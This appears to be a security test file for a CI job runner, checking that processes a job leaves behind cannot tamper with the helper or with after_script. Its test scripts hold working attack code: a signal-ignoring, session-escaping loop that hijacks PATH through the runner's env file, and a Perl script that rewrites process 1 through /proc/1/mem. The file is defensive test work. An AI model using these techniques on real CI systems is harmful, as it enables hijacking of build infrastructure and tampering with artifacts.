import { describe, expect, it } from 'vitest';
import { makeRepository } from '../cluster/make-repository.ts';
import { attackSuite, plant } from './attack-suite.ts';

const { reason, cluster } = await attackSuite('nothing of the job runs beside the helper');

/** Escapes its session, ignores every signal it can, and swaps what the helper is about to read, as fast as it can. */
const swapper = [
  ...plant('/builds/evil/gitlab-runner'),
  [
    'cat > /builds/swap <<"END"',
    'trap "" TERM HUP INT QUIT',
    'while :; do',
    'mkdir -p "$CI_PROJECT_DIR.tmp"; echo "PATH=/builds/evil:$PATH" > "$CI_PROJECT_DIR.tmp/gitlab_runner_env"',
    'echo x >> /builds/alive',
    'done 2>/dev/null',
    'END',
  ].join('\n'),
];

describe.skipIf(reason)('nothing of the job runs beside the helper', () => {
  it('a process that left its group and ignores signals is ended before the helper works', async () => {
    const result = await cluster().run({
      repository: makeRepository(cluster().directory),
      variables: {},
      script: [
        ...swapper,
        '(setsid sh -c "trap : TERM; while :; do sleep 0.05; echo x >> out/late; done" >/dev/null 2>&1 &)',
        '(setsid sh /builds/swap >/dev/null 2>&1 &)',
        'mkdir -p out; sleep 0.5; test -s /builds/alive && echo "it was alive"',
      ],
      // What grows while it is packed shows that somebody still writes.
      after_script: [
        'rm -rf out /builds/alive; sleep 1; ls out /builds/alive 2>&1 || true; mkdir out; echo honest > out/a.txt',
      ],
      artifacts: [{ name: 'out', paths: ['out/'], when: 'always' }],
    });
    expect(result.readableTrace).toContain('\nit was alive\n');
    expect(result.readableTrace).toMatch(/cannot access 'out'/);
    expect(result.readableTrace).toMatch(/cannot access '\/builds\/alive'/);
    expect(result.trace).not.toContain('PWNED');
    expect(result.artifacts).toHaveLength(1);
    expect(result.state).toBe('success');
  });

  it('after_script sees nothing that script left running', async () => {
    const result = await cluster().run({
      script: [
        '(setsid sh -c "trap : TERM HUP; while :; do sleep 0.1; echo still > /tmp/alive; done" >/dev/null 2>&1 &)',
        'sleep 0.5; test -e /tmp/alive && echo "it was alive"',
      ],
      after_script: ['rm -f /tmp/alive', 'sleep 1', 'test ! -e /tmp/alive && echo "nobody lives"'],
    });
    expect(result.readableTrace).toContain('\nit was alive\n');
    expect(result.readableTrace).toContain('\nnobody lives\n');
  });

  // Process 1 of the build container has the job's uid: where the kernel lets a process write into another of its uid (no Yama,
  // or ptrace_scope 0), a job can make it run anything, for as long as the container lives. Nothing in a container can end it.
  it('a process 1 that the job has rewritten runs on, and changes nothing that the helper runs', async (test) => {
    const result = await cluster().run({
      repository: makeRepository(cluster().directory),
      variables: {},
      script: [
        ...swapper,
        // Its loop is `sleep 3600 & wait`; in the memory of the shell it becomes `. ./x1 & wait`, and it stands in /builds.
        'sed "s#.CI_PROJECT_DIR#$CI_PROJECT_DIR#g" /builds/swap > /builds/x1',
        [
          'cat > /tmp/rewrite.pl <<"END"',
          'open(M, "<", "/proc/1/maps"); open(F, "+<", "/proc/1/mem") or do { print "process 1 cannot be rewritten: $!\\n"; exit };',
          'while (<M>) { next unless /^(\\w+)-(\\w+) rw/ && hex($2) - hex($1) < 1 << 24; my ($a, $b) = (hex $1, hex $2);',
          'sysseek(F, $a, 0); next unless sysread(F, my $t, $b - $a);',
          'for (["sleep\\0", ".\\0"], ["3600\\0", "./x1\\0"]) { my $o = -1; while (($o = index($t, $$_[0], $o + 1)) >= 0) { sysseek(F, $a + $o, 0); syswrite(F, $$_[1]) } } }',
          'END',
        ].join('\n'),
        'perl /tmp/rewrite.pl',
      ],
      after_script: [
        'sleep 1; test -s /builds/alive && echo "process 1 is the job\'s"',
        'mkdir -p out && echo honest > out/a.txt',
      ],
      artifacts: [{ name: 'out', paths: ['out/'], when: 'always' }],
    });
    expect(result.trace).not.toContain('PWNED');
    if (!result.readableTrace.includes("\nprocess 1 is the job's\n"))
      test.skip('this kernel or this shell does not let the job rewrite process 1');
    expect(result.artifacts).toHaveLength(1);
  });
});
